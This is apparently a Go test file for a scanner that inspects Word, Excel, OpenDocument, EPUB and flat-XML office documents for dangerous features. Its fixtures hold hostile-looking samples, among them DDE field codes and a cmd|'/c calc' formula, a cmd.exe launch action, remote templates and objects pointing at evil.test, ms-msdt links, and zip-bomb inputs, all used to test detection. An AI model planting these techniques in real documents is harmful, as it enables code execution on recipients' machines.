package office

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"context"
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"assay/scan"
	"assay/scan/container"
)

// pack makes a ZIP file of names and contents in turn.
func pack(t testing.TB, parts ...string) []byte {
	t.Helper()
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for i := 0; i < len(parts); i += 2 {
		w, err := z.Create(parts[i])
		if err == nil {
			_, err = w.Write([]byte(parts[i+1]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

const (
	typesXML = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>` +
		`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>%s</Types>`
	relsXML  = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>`
	wordXML  = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>`
	sheetXML = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">%s</worksheet>`
	relType  = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
)

// word makes a document of Word with that in its body, and further parts.
func word(t testing.TB, body string, parts ...string) []byte {
	return pack(t, append([]string{
		"[Content_Types].xml", fmt.Sprintf(typesXML, ""), "_rels/.rels", fmt.Sprintf(relsXML, ""), "word/document.xml", fmt.Sprintf(wordXML, body),
	}, parts...)...)
}

// related makes a document of Word with a relationship.
func related(t testing.TB, kind, target, mode string, parts ...string) []byte {
	rel := fmt.Sprintf(`<Relationship Id="r1" Type="%s" Target="%s"%s/>`, relType+kind, target, mode)
	return word(t, "", append([]string{"word/_rels/document.xml.rels", fmt.Sprintf(relsXML, rel)}, parts...)...)
}

const external = ` TargetMode="External"`

// field writes a field of Word.
func field(code string) string {
	return `<w:r><w:fldChar w:fldCharType="begin"/></w:r>` + code + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
}

func instr(code string) string { return `<w:r><w:instrText>` + code + `</w:instrText></w:r>` }

// wide returns a text in UTF-16 with its mark.
func utf16LE(s string) string {
	out := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return string(out)
}

// A row is a document and the traits that are wanted.
type row struct {
	name string
	in   []byte
	want string
}

func check(t *testing.T, rows []row) {
	t.Helper()
	for _, c := range rows {
		if v, _ := read(c.name, c.in); v.State != scan.Inspected || traits(v) != c.want {
			t.Errorf("%s: %s %q [%s], want [%s] %v", c.name, v.State, v.Method, traits(v), c.want, v.Signs)
		}
	}
}

func TestWordFields(t *testing.T) {
	check(t, []row{
		{"nothing", word(t, "<w:p/>"), ""},
		{"text", word(t, `<w:p><w:r><w:t>DDEAUTO cmd</w:t></w:r></w:p>`), ""},
		{"date", word(t, field(instr(`DATE \@ "d"`))), ""},
		{"DDE", word(t, field(instr(`DDE cmd`))), "dde"},
		{"in runs", word(t, field(instr("D")+instr("DE")+instr("AUTO c:\\\\windows"))), "dde"},
		{"in paragraphs", word(t, `<w:p>`+`<w:r><w:fldChar w:fldCharType="begin"/></w:r>`+instr("DDE")+`</w:p><w:p>`+instr("AUTO x")+`<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`), "dde"},
		{"in text and code", word(t, field(instr("DDE")+`<w:r><w:t>AUTO cmd</w:t></w:r>`)), "dde"},
		{"in entities", word(t, field(instr("&#68;&#x44;&#x45; cmd"))), "dde"},
		{"in CDATA", word(t, field(instr("<![CDATA[DD]]>E cmd"))), "dde"},
		{"with a comment in it", word(t, field(instr("DD<!-- x -->E cmd"))), "dde"},
		{"deleted", word(t, `<w:del><w:r><w:delInstrText>DDE cmd</w:delInstrText></w:r></w:del>`), "dde"},
		{"simple", word(t, `<w:fldSimple w:instr="&#68;DE cmd"/>`), "dde"},
		{"other prefix", word(t, strings.ReplaceAll(field(instr("DDE cmd")), "w:", "q:")), "dde"},
		{"without end", word(t, `<w:r><w:fldChar w:fldCharType="begin"/></w:r>`+instr("DDE cmd")), "dde"},
		{"QUOTE", word(t, field(field(instr("QUOTE 68 68 69 65 85 84 79"))+instr(" cmd"))), "dde"},
		{"SET and REF", word(t, field(instr(`SET a "`)+field(instr("QUOTE 68 68 69"))+instr(`"`))+field(field(instr("REF a"))+instr(" cmd"))), "dde"},
		{"in a header", word(t, "", "word/header1.xml", fmt.Sprintf(wordXML, field(instr("DDE cmd")))), "dde"},
		{"elsewhere", word(t, "", "custom/anything.xml", fmt.Sprintf(wordXML, field(instr("DDE cmd")))), "dde"},
		{"strict", pack(t, "[Content_Types].xml", fmt.Sprintf(typesXML, ""), "word/document.xml",
			`<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main">`+field(instr("DDE cmd"))+`</w:document>`), "dde"},
		{"in UTF-16", word(t, "", "word/a.xml", utf16LE(`<?xml version="1.0" encoding="UTF-16"?>`+fmt.Sprintf(wordXML, field(instr("DDE cmd"))))), "dde"},
		{"in UTF-16 without a mark", word(t, "", "word/a.xml", utf16LE(fmt.Sprintf(wordXML, field(instr("DDE cmd"))))[2:]), "dde"},
		{"in UTF-7", word(t, "", "word/a.xml", `<?xml version="1.0" encoding="UTF-7"?><w:r xmlns:w="http://schemas.openxmlformats.org/a"><w:instrText>+AEQARABF- cmd</w:instrText></w:r>`), "dde"},
		{"in windows-1252", word(t, "", "word/a.xml", `<?xml version='1.0' encoding='windows-1252'?>`+fmt.Sprintf(wordXML, "\xe4"+field(instr("DDE cmd")))), "dde"},
		{"picture from elsewhere", word(t, field(instr(`INCLUDEPICTURE "https://evil.test/a.png"`))), "remote-object"},
		{"picture of the machine", word(t, field(instr(`INCLUDEPICTURE "C:\\a.png"`))), ""},
		{"linked object", word(t, field(instr(`LINK Excel.Sheet "\\\\evil\\a.xls"`))), "remote-object"},
		{"hyperlink", word(t, field(instr(`HYPERLINK "https://example.org/"`))), ""},
		{"action", word(t, `<a:hlinkClick action="ppaction://program?C:\cmd.exe"/>`), "launch"},
		{"slide", word(t, `<a:hlinkClick action="ppaction://hlinksldjump"/>`), ""},
	})
}

func TestRelationships(t *testing.T) {
	check(t, []row{
		{"hyperlink", related(t, "hyperlink", "https://example.org/", external), ""},
		{"hyperlink to a file", related(t, "hyperlink", `file:///\\server\share\a.docx`, external), ""},
		{"hyperlink to a handler", related(t, "hyperlink", "ms-msdt:/id", external), "remote-object"},
		{"template", related(t, "attachedTemplate", "https://evil.test/a.dotm", external), "remote-template"},
		{"template, strict", word(t, "", "word/_rels/settings.xml.rels", fmt.Sprintf(relsXML,
			`<Relationship Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" Target="https://evil.test/a.dotm" TargetMode="External"/>`)), "remote-template"},
		{"template by UNC", related(t, "attachedTemplate", `\\evil.test\a.dotm`, external), "remote-template"},
		{"template on a server", related(t, "attachedTemplate", "file://evil.test/a.dotm", external), "remote-template"},
		{"template on the drive", related(t, "attachedTemplate", `file:///C:\Users\a\AppData\Roaming\Microsoft\Templates\Normal.dotm`, external), ""},
		{"template without mode", related(t, "attachedTemplate", "https://evil.test/a.dotm", ""), "remote-template"},
		{"template, mode in capitals", related(t, "attachedTemplate", "https://evil.test/a.dotm", ` TargetMode="EXTERNAL"`), "remote-template"},
		{"template in entities", related(t, "attachedTemplate", "&#104;ttps://evil.test/a.dotm", external), "remote-template"},
		{"object", related(t, "oleObject", "mhtml:https://evil.test/a.html!x-usc:https://evil.test/a.html", external), "remote-object"},
		{"picture", related(t, "image", "https://evil.test/a.png", external), "remote-object"},
		{"picture of the drive", related(t, "image", "file:///C:/a.png", external), ""},
		{"frame", related(t, "frame", "https://evil.test/a.htm", external), "remote-object"},
		{"subdocument", related(t, "subDocument", "https://evil.test/a.docx", external), "remote-object"},
		{"linked workbook", related(t, "externalLinkPath", "Book2.xlsx", external), ""},
		{"linked workbook elsewhere", related(t, "externalLinkPath", "https://evil.test/a.xlsx", external), "remote-object"},
		{"macros", related(t, "vbaProject", "vbaProject.bin", "", "word/vbaProject.bin", "x"), "macros"},
		{"macros by another name", related(t, "vbaProject", "../a.dat", "", "a.dat", "x"), "macros"},
		{"macros that are not there", related(t, "vbaProject", "vbaProject.bin", ""), ""},
		{"control", related(t, "control", "ax/a.xml", "", "word/ax/a.xml", `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>`), "activex"},
		{"object inside", related(t, "oleObject", "o/a.bin", "", "word/o/a.bin", "x"), "embedded-object"},
		{"imported part", related(t, "aFChunk", "a.mht", "", "word/a.mht", "MIME-Version: 1.0"), "embedded-object"},
	})
}

func TestParts(t *testing.T) {
	const ribbonXML = `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="%s"><ribbon/></customUI>`
	project := cfb + strings.Repeat("\x00", 600) + string(wide("_VBA_PROJECT"))
	check(t, []row{
		{"macros in a deep folder", word(t, "", "a/b/VBAPROJECT.BIN", "x"), "macros"},
		{"macros by content", word(t, "", "a/b/picture.png", project), "macros"},
		{"macros by content type", pack(t, "[Content_Types].xml",
			fmt.Sprintf(typesXML, `<Override PartName="/word/a.dat" ContentType="application/vnd.ms-office.vbaProject"/>`), "word/a.dat", "x"), "macros"},
		{"macros with a backslash", word(t, "", `word\vbaProject.bin`, "x"), "macros"},
		{"macros, percent-encoded", word(t, "", `word/vba%50roject.bin`, "x"), "macros"},
		{"no macros, but the type", pack(t, "[Content_Types].xml",
			fmt.Sprintf(typesXML, `<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`), "word/document.xml", fmt.Sprintf(wordXML, ""), "word/printer.bin", "x"), ""},
		{"macro sheet", word(t, "", "xl/macrosheets/sheet1.bin", "x"), "xlm-macros"},
		{"macro sheet elsewhere", word(t, "", "xl/worksheets/sheet9.xml", `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>`), "xlm-macros"},
		{"macro sheet by content type", pack(t, "[Content_Types].xml",
			fmt.Sprintf(typesXML, `<Override PartName="/xl/a.bin" ContentType="application/vnd.ms-excel.intlmacrosheet"/>`), "xl/a.bin", "x"), "xlm-macros"},
		{"DDE link", word(t, "", "xl/externalLinks/externalLink1.xml", `<externalLink xmlns="http://schemas.openxmlformats.org/a"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`), "dde"},
		{"DDE link in binary", word(t, "", "xl/externalLinks/externalLink1.bin", "\xe8\x02\x0e\x01\x00\x01\x00\x00\x00c\x00\x01\x00\x00\x00d\x00"), "dde"},
		{"linked workbook in binary", word(t, "", "xl/externalLinks/externalLink1.bin", "\xe8\x02\x0a\x00\x00\x02\x00\x00\x00r\x001\x00"), ""},
		{"formula", word(t, "", "xl/worksheets/sheet1.xml", fmt.Sprintf(sheetXML, `<c><f>cmd|'/c calc'!A0</f></c>`)), "dde"},
		{"service", word(t, "", "xl/worksheets/sheet1.xml", fmt.Sprintf(sheetXML, `<c><f>_xlfn.WEBSERVICE("http://a.test/")</f></c>`)), "remote-object"},
		{"ordinary formulas", word(t, "", "xl/worksheets/sheet1.xml", fmt.Sprintf(sheetXML, `<c><f>SUM(A1:A3)&amp;"a|b'!c"</f></c><c><f>HYPERLINK("http://a.test/")</f></c>`)), ""},
		{"connection", word(t, "", "xl/connections.xml", `<connections xmlns="http://schemas.openxmlformats.org/a"><connection><dbPr connection="Provider=MSOLEDBSQL;Password=x" command="x"/></connection></connections>`), "remote-object"},
		{"model", word(t, "", "xl/connections.xml", `<connections xmlns="http://schemas.openxmlformats.org/a"><connection><dbPr connection="Data Model Connection" command="Model"/></connection></connections>`), ""},
		{"web query", word(t, "", "xl/connections.xml", `<connections xmlns="http://schemas.openxmlformats.org/a"><connection><webPr url="http://evil.test/"/></connection></connections>`), "remote-object"},
		{"web extension", word(t, "", "word/webextensions/webextension1.xml", `<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11"/>`), "remote-object"},
		{"ribbon", word(t, "", "customUI/customUI.xml", fmt.Sprintf(ribbonXML, "Load")), ""},
		{"ribbon with macros", word(t, "", "customUI/customUI.xml", fmt.Sprintf(ribbonXML, "Load"), "word/vbaProject.bin", "x"), "macros"},
		{"ribbon that calls another document", word(t, "", "customUI/customUI14.xml", fmt.Sprintf(ribbonXML, `\\evil.test\a.dotm!Load`)), "remote-template"},
		{"ribbon that calls a document of the Web", word(t, "", "customUI/x.xml", fmt.Sprintf(ribbonXML, "http://evil.test/a.dotm!Load")), "remote-template"},
		{"embedding", word(t, "", "ppt/embeddings/a.xlsx", "PK"), "embedded-object"},
		{"compound file", word(t, "", "word/media/a.png", cfb+"x"), "embedded-object"},
		{"VML", word(t, "", "xl/drawings/a.vml", `<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.test/a.png"/><br></xml>`), "remote-object"},
		{"form control", word(t, "", "xl/worksheets/sheet1.xml", fmt.Sprintf(sheetXML, `<controls><control shapeId="1025" r:id="r1"/></controls>`)), ""},
		{"data with addresses", word(t, "", "customXml/item1.xml", `<a xmlns="http://example.org/"><b href="http://example.org/"/></a>`), ""},
		{"document type", word(t, "", "word/a.xml", `<!DOCTYPE a SYSTEM "http://evil.test/a.dtd"><a xmlns="http://schemas.openxmlformats.org/a"/>`), "ambiguous"},
		{"two parts", word(t, "", "word/document.xml", fmt.Sprintf(wordXML, field(instr("DDE cmd")))), "ambiguous dde"},
		{"two parts but for case", word(t, "", "WORD/Document.xml", fmt.Sprintf(wordXML, field(instr("DDE cmd")))), "ambiguous dde"},
	})
}

// TestYields expects what is not XML of the document to be passed on.
func TestYields(t *testing.T) {
	parts := []string{
		"word/media/image1.png", "\x89PNG", "word/media/a.svg", `<svg xmlns="http://www.w3.org/2000/svg"/>`, "word/media/b.xml", `<svg xmlns="http://www.w3.org/2000/svg"/>`,
		"word/a.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"/>`, "word/c.xml", "MZ executable", "word/evil.wsf", `<job xmlns="http://schemas.openxmlformats.org/"/>`,
		"customXml/item1.xml", `<a xmlns="http://example.org/"/>`, "word/fonts/font1.odttf", "font", "readme.txt", "text",
	}
	v, members := read("a.docx", word(t, "", parts...))
	if v.State != scan.Inspected {
		t.Errorf("%+v", v)
	}
	for i := 0; i < len(parts); i += 2 {
		if !slices.ContainsFunc(members, func(m container.Member) bool { return m.Name == parts[i] && string(m.Content) == parts[i+1] }) {
			t.Errorf("%s is not yielded", parts[i])
		}
	}
	if len(members) != len(parts)/2 {
		t.Errorf("%d members", len(members))
	}
}

// TestMedia expects what documents hold besides to be known by itself, and what only looks like it not to be.
func TestMedia(t *testing.T) {
	printer := make([]byte, 72+148+100)
	copy(printer[64:], "\x01\x04\x00\x00\xdc\x00\x64\x00")
	font := "0123456789abcdef0123456789abcdef" + strings.Repeat("\x00", 12) + "cmap\x00\x00\x00\x00\x00\x00\x00\x10\x00\x00\x00\x10" + "glyf\x00\x00\x00\x00\x00\x00\x00\x10\x00\x00\x00\x10"
	for name, in := range map[string]string{
		"printerSettings1.bin": string(printer), "hdphoto1.wdp": "II\xbc\x01", "image1.wmf": "\x01\x00\x09\x00\x00\x03", "font1.odttf": font, "layout-cache": "\x05\x00\x05\x00\x00",
	} {
		if v, _ := read(name, []byte(in)); v.State != scan.Inspected || v.Type == "" {
			t.Errorf("%s: %+v", name, v)
		}
		if v, _ := read(name, []byte("x"+in)); v.State != "not read" && name != "font1.odttf" {
			t.Errorf("%s, spoilt: %+v", name, v)
		}
	}
	archive := string(pack(t, "evil.exe", "MZ"))
	if v, _ := read("hdphoto1.wdp", []byte("II\xbc\x01"+archive)); v.State != "not read" {
		t.Errorf("an archive in disguise: %+v", v)
	}
	flat := `<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"/>`
	if v, members := read("a.xml", []byte(flat+archive)); v.State == scan.Inspected || len(members) != 1 || string(members[0].Content) != "MZ" {
		t.Errorf("an archive behind a document: %+v %+v", v, members)
	}
	if v, _ := read("a.odttf", []byte(strings.Repeat("\x80", 200))); v.State != "not read" {
		t.Errorf("no font: %+v", v)
	}
}

// TestEncryptedZIP expects a document whose parts are encrypted in the ZIP file to be called an encrypted document.
func TestEncryptedZIP(t *testing.T) {
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for _, h := range []*zip.FileHeader{
		{Name: "[Content_Types].xml", Flags: 1, CRC32: 0x12345678, CompressedSize64: 30, UncompressedSize64: 18}, {Name: "word/document.xml", Flags: 1, CRC32: 0x12345678, CompressedSize64: 30, UncompressedSize64: 18},
	} {
		w, err := z.CreateRaw(h)
		if err == nil {
			_, err = w.Write([]byte("012345678901234567890123456789"))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	v, members := read("a.docx", out.Bytes(), "wrong")
	if v.State != scan.Encrypted || v.Class != scan.ClassDocument || !strings.Contains(v.Method, "ZipCrypto") || len(members) != 2 || members[0].State != scan.Encrypted {
		t.Errorf("%+v %+v", v, members)
	}
}

// TestMashup expects the queries of Power Query to be yielded.
func TestMashup(t *testing.T) {
	inner := "PK\x03\x04 queries"
	code := base64.StdEncoding.EncodeToString([]byte("\x00\x00\x00\x00" + string(rune(len(inner))) + "\x00\x00\x00" + inner + "rest"))
	v, members := read("a.xlsx", word(t, "", "customXml/item1.xml", utf16LE(`<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">`+code+`</DataMashup>`)))
	if traits(v) != "remote-object" || !slices.ContainsFunc(members, func(m container.Member) bool { return string(m.Content) == inner }) {
		t.Errorf("%+v %+v", v, members)
	}
}

// TestUninspectable expects what is no XML, and what cannot be read, to be called so, with what was found all the same.
func TestUninspectable(t *testing.T) {
	dde := field(instr("DDE cmd"))
	for name, part := range map[string]string{
		"malformed":        fmt.Sprintf(wordXML, dde+"</w:x>"),
		"unclosed":         `<w:document xmlns:w="a">` + dde,
		"two roots":        `<a/>` + fmt.Sprintf(wordXML, dde),
		"text at the end":  fmt.Sprintf(wordXML, dde) + "x",
		"entities":         `<!DOCTYPE a [<!ENTITY b "c">]>` + fmt.Sprintf(wordXML, dde),
		"unclosed comment": `<w:document xmlns:w="a">` + dde + `<!-- `,
		"unclosed value":   `<w:document xmlns:w="a">` + dde + `<a b="`,
		"depth":            `<w:document xmlns:w="a">` + dde + strings.Repeat("<a>", 3000) + strings.Repeat("</a>", 3000) + `</w:document>`,
	} {
		v, _ := read("a.docx", word(t, "", "word/a.xml", part))
		if v.State != scan.Uninspectable || v.Method == "" || !strings.Contains(traits(v), "dde") {
			t.Errorf("%s: %s %q [%s]", name, v.State, v.Method, traits(v))
		}
	}
	v, members := read("a.docx", word(t, "", "word/a.xml", `<?xml version="1.0" encoding="x-unknown"?><a/>`))
	if v.State != scan.Uninspectable || !strings.Contains(v.Method, "x-unknown") || len(members) != 1 {
		t.Errorf("unknown charset: %+v", v)
	}
	v, _ = read("a.xlsb", word(t, "", "xl/externalLinks/externalLink1.bin", "\xe8\x02\x7f\x01\x00\x01"))
	if v.State != scan.Uninspectable {
		t.Errorf("records: %+v", v)
	}
	v, _ = read("a.docx", word(t, "")[:300])
	if v.State == scan.Inspected {
		t.Errorf("cut off: %+v", v)
	}
}

// office wraps an OpenDocument content.
func openText(body string) string {
	return `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:scripts/><office:body>` + body + `</office:body></office:document-content>`
}

const manifestXML = `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/"/></manifest:manifest>`

// openDoc makes an OpenDocument text.
func openDoc(t testing.TB, body string, parts ...string) []byte {
	return pack(t, append([]string{
		"mimetype", "application/vnd.oasis.opendocument.text", "META-INF/manifest.xml", manifestXML, "content.xml", openText(body),
	}, parts...)...)
}

func TestOpenDocument(t *testing.T) {
	const script = `xmlns:script="http://openoffice.org/2000/script"`
	check(t, []row{
		{"plain", openDoc(t, "<text:p>x</text:p>"), ""},
		{"empty library", openDoc(t, "", "Basic/script-lc.xml", `<!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd"><library:libraries xmlns:library="http://openoffice.org/2000/library"/>`,
			"Basic/Standard/script-lb.xml", `<!DOCTYPE library:library PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "library.dtd"><library:library xmlns:library="http://openoffice.org/2000/library"/>`), ""},
		{"Basic", openDoc(t, "", "Basic/Standard/Module1.xml", `<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module `+script+`>Sub Main</script:module>`), "macros"},
		{"Python", openDoc(t, "", "Scripts/python/a.py", "print(1)"), "macros"},
		{"event", openDoc(t, `<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.py$b?language=Python"/>`), "macros"},
		{"old event", openDoc(t, `<script:event-listener script:macro-name="a.b"/>`), "macros"},
		{"link to a macro", openDoc(t, `<text:a xlink:href="vnd.sun.star.script:a.b"/>`), "macros"},
		{"next page", openDoc(t, `<presentation:event-listener presentation:action="next-page"/>`), ""},
		{"program", openDoc(t, `<presentation:event-listener presentation:action="execute" xlink:href="cmd.exe"/>`), "launch"},
		{"DDE", openDoc(t, `<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c"/></table:dde-link></table:dde-links>`), "dde"},
		{"DDE in text", openDoc(t, `<text:dde-connection-decl office:dde-application="cmd" office:dde-topic="/c"/>`), "dde"},
		{"DDE in a formula", openDoc(t, `<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;a&quot;)"/>`), "dde"},
		{"picture", openDoc(t, `<draw:image xlink:href="http://evil.test/a.png"/>`), "remote-object"},
		{"picture inside", openDoc(t, `<draw:image xlink:href="Pictures/a.png"/>`), ""},
		{"section", openDoc(t, `<text:section-source xlink:href="file://evil.test/a.odt"/>`), "remote-object"},
		{"table", openDoc(t, `<table:table-source xlink:href="http://evil.test/a.ods"/>`), "remote-object"},
		{"template", openDoc(t, "", "meta.xml", `<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><meta:template xlink:href="http://evil.test/a.ott"/></office:document-meta>`), "remote-template"},
		{"template of the drive", openDoc(t, "", "meta.xml", `<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><meta:template xlink:href="file:///C:/a.ott"/></office:document-meta>`), ""},
		{"hyperlink", openDoc(t, `<text:a xlink:href="https://example.org/">x</text:a>`), ""},
		{"object inside", openDoc(t, "", "Object 1", cfb+"x"), "embedded-object"},
		{"document inside", openDoc(t, "", "Object 1/content.xml", openText(`<draw:image xlink:href="http://evil.test/a.png"/>`)), "remote-object"},
		{"flat", []byte(openText(`<draw:image xlink:href="http://evil.test/a.png"/>`)), "remote-object"},
		{"flat, Basic", []byte(openText(`<ooo:module ooo:name="a"><ooo:source-code>Sub x</ooo:source-code></ooo:module>`)), "macros"},
		{"flat, no Basic", []byte(openText(`<ooo:libraries><ooo:library-embedded ooo:name="Standard"/></ooo:libraries>`)), ""},
	})
}

// TestIWork expects documents of Apple's programs that have a password to be called encrypted, and others not.
func TestIWork(t *testing.T) {
	for name, encrypted := range map[string]bool{".iwpv2": true, "Data/preview.jpg": false} {
		f := &container.File{Name: "a.pages", Content: pack(t, name, "x", "Index/Document.iwa", "y"), Budget: container.NewBudget(t.Context(), container.Limits{}, nil)}
		if (Reader{}).Reads(f) != encrypted {
			t.Errorf("%s: read %v", name, !encrypted)
		}
		if !encrypted {
			continue
		}
		yielded := 0
		v := Reader{}.Read(f, func(container.Member) bool { yielded++; return true })
		if v.State != scan.Encrypted || v.Class != scan.ClassDocument || v.Method != "iWork, password" || yielded == 0 {
			t.Errorf("%s: %+v, %d members", name, v, yielded)
		}
	}
}

func TestEPUB(t *testing.T) {
	const open = `<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"/>`
	encryption := func(algorithm string) string {
		return `<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><enc:EncryptedData><enc:EncryptionMethod Algorithm="` + algorithm + `"/><enc:CipherReference URI="a%20b.xhtml"/></enc:EncryptedData></encryption>`
	}
	for algorithm, want := range map[string]scan.State{
		"http://www.idpf.org/2008/embedding": scan.Inspected, "http://ns.adobe.com/pdf/enc#RC": scan.Inspected, "http://www.w3.org/2001/04/xmlenc#aes256-cbc": scan.Encrypted,
	} {
		v, members := read("a.epub", pack(t, "mimetype", "application/epub+zip", "META-INF/container.xml", open, "META-INF/encryption.xml", encryption(algorithm), "a b.xhtml", "<html><script/></html>"))
		if v.State != want || len(members) != 1 || (members[0].State == scan.Encrypted) != (want == scan.Encrypted) {
			t.Errorf("%s: %+v %+v", algorithm, v, members)
		}
	}
}

// TestFlat reads documents in one XML file.
func TestFlat(t *testing.T) {
	var mime bytes.Buffer
	mime.WriteString("ActiveMime" + strings.Repeat("\x00", 0x32-10))
	z := zlib.NewWriter(&mime)
	_, _ = z.Write([]byte(cfb + "macros"))
	_ = z.Close()
	code := base64.StdEncoding.EncodeToString(mime.Bytes())
	const wordML = `<?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">%s</w:wordDocument>`
	const package_ = `<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">%s</pkg:package>`
	const book = `<?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">%s</Workbook>`
	check(t, []row{
		{"field.xml", []byte(fmt.Sprintf(wordML, field(instr("DDE cmd")))), "dde"},
		{"attached.xml", []byte(fmt.Sprintf(wordML, `<w:attachedTemplate w:val="http://evil.test/a.dot"/>`)), "remote-template"},
		{"link.xml", []byte(fmt.Sprintf(wordML, `<w:attachedTemplate w:val=""/><w:hlink w:dest="http://example.org/"/>`)), ""},
		{"macros.xml", []byte(fmt.Sprintf(wordML, `<w:docSuppData><w:binData w:name="editdata.mso">`+code[:30]+"\r\n"+code[30:]+`</w:binData></w:docSuppData>`)), "macros"},
		{"part.xml", []byte(fmt.Sprintf(package_, `<pkg:part pkg:name="/word/vbaProject.bin" pkg:contentType="application/vnd.ms-office.vbaProject"><pkg:binaryData>`+
			base64.StdEncoding.EncodeToString([]byte(cfb))+`</pkg:binaryData></pkg:part>`)), "macros"},
		{"template.xml", []byte(fmt.Sprintf(package_, `<pkg:part pkg:name="/word/_rels/settings.xml.rels"><pkg:xmlData>`+
			fmt.Sprintf(relsXML, `<Relationship Type="`+relType+`attachedTemplate" Target="http://evil.test/" TargetMode="External"/>`)+`</pkg:xmlData></pkg:part>`)), "remote-template"},
		{"encoded.xml", []byte(fmt.Sprintf(package_, `<pkg:part pkg:name="/word/document.xml"><pkg:binaryData>`+
			base64.StdEncoding.EncodeToString(fmt.Appendf(nil, wordXML, field(instr("DDE cmd"))))+`</pkg:binaryData></pkg:part>`)), "dde"},
		{"book.xml", []byte(fmt.Sprintf(book, `<Cell ss:Formula="=cmd|'/c calc'!A0"/>`)), "dde"},
		{"ordinary.xml", []byte(fmt.Sprintf(book, `<Cell ss:Formula="=SUM(R[-1]C)" ss:HRef="http://example.org/"/>`)), ""},
		{"wide.xml", []byte(utf16LE(fmt.Sprintf(book, `<Cell ss:Formula="=cmd|'/c calc'!A0"/>`))), "dde"},
	})
	v, members := read("a.xml", []byte(fmt.Sprintf(wordML, `<w:binData w:name="editdata.mso">`+code+`</w:binData>`)))
	if len(members) != 1 || string(members[0].Content) != cfb+"macros" {
		t.Errorf("the project is not yielded: %+v %+v", v, members)
	}
}

// TestBounded expects the time to be linear in what is made to take long, and limits to end the work.
func TestBounded(t *testing.T) {
	const n = 2 << 20
	for name, part := range map[string]string{
		"elements": strings.Repeat("<a>", n/3), "unclosed": strings.Repeat("<a ", n/3), "comments": strings.Repeat("<!--", n/4), "sections": strings.Repeat("<![CDATA[", n/9),
		"quotes": strings.Repeat(`<a "`, n/4), "ends": "<a>" + strings.Repeat("</b>", n/4), "entities": "<a>" + strings.Repeat("&", n), "references": "<t>" + strings.Repeat("&#65;", n/5),
		"doctypes": strings.Repeat("<!DOCTYPE [", n/11), "instructions": strings.Repeat("<?", n/2), "attributes": "<a " + strings.Repeat(`b="c" `, n/6) + "/>",
		"relationships": "<a>" + strings.Repeat(`<Relationship Type="/oleObject" Target="../../../a"/>`, n/50) + "</a>",
		"parents":       `<a><Relationship Type="/oleObject" Target="` + strings.Repeat("../", n/3) + `"/></a>`,
		"fields":        "<a>" + strings.Repeat(`<fldChar fldCharType="begin"/>`, n/30) + "</a>", "codes": "<a>" + strings.Repeat(`<instrText>QUOTE 65</instrText>`, n/30) + "</a>",
		"overrides": "<a>" + strings.Repeat(`<Override PartName="/a" ContentType="b"/>`, n/40) + "</a>", "plus": `<?xml version="1.0" encoding="utf-7"?>` + strings.Repeat("+", n),
	} {
		in := word(t, "", "word/a.xml", part)
		start := time.Now()
		read("a.docx", in)
		if took := time.Since(start); took > 15*time.Second {
			t.Errorf("%s takes %v", name, took)
		}
	}
	bomb := word(t, "", "word/a.xml", "<a>"+strings.Repeat(" ", 60<<20))
	if v, _ := read("a.docx", bomb); v.State != scan.Uninspectable {
		t.Errorf("bomb: %+v", v)
	}
}

